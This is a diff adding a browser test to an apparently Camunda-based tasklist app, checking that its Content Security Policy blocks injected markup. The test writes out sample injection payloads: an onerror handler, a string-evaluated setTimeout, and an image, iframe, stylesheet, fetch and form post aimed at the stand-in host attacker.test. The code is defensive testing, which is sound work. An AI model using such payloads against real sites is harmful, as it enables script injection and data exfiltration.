@@ -2,12 +2,16 @@ package io.gatehouse.access;
 
 import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNull;
 
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.assertions.PlaywrightAssertions;
 import com.microsoft.playwright.options.AriaRole;
+import java.util.HashSet;
 import java.util.List;
+import java.util.Set;
 import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.regex.Pattern;
 import org.camunda.bpm.engine.RuntimeService;
@@ -111,6 +115,47 @@ class TasklistBrowserTest {
     assertThat(page.locator(".page-notifications"))
         .containsText(Pattern.compile("somebody else must decide"));
     Chromium.shoot(page, "refused");
+  }
+
+  /** What an attacker would try whose markup had got past Angular's sanitising. */
+  @Test
+  void shouldStopWhatMarkupThatGotThroughWouldDo() {
+    Page page = signedIn("asta", "/camunda/app/tasklist/default/");
+    assertThat(page.locator(".task-filters").getByText("My tasks")).isVisible();
+    violations.clear();
+
+    page.evaluate(
+        """
+        () => {
+          window.stopped = [];
+          document.addEventListener('securitypolicyviolation',
+              violation => window.stopped.push(violation.effectiveDirective));
+          const brought = document.createElement('div');
+          brought.innerHTML = `
+              <img src="data:," onerror="window.ran = 'handler'">
+              <img src="http://attacker.test/pixel.png">
+              <iframe src="http://attacker.test/"></iframe>
+              <link rel="stylesheet" href="http://attacker.test/steal.css">
+              <form id="lure" action="http://attacker.test/" method="post"></form>`;
+          document.body.appendChild(brought);
+          setTimeout("window.ran = 'text as code'", 0);
+          fetch('http://attacker.test/').catch(() => {});
+          document.getElementById('lure').submit();
+        }
+        """);
+    page.waitForFunction("() => new Set(window.stopped).size >= 7");
+
+    assertEquals(
+        Set.of(
+            "script-src-attr",
+            "script-src",
+            "img-src",
+            "frame-src",
+            "style-src-elem",
+            "connect-src",
+            "form-action"),
+        new HashSet<>((List<?>) page.evaluate("() => window.stopped")));
+    assertNull(page.evaluate("() => window.ran"));
   }
 
   @Test
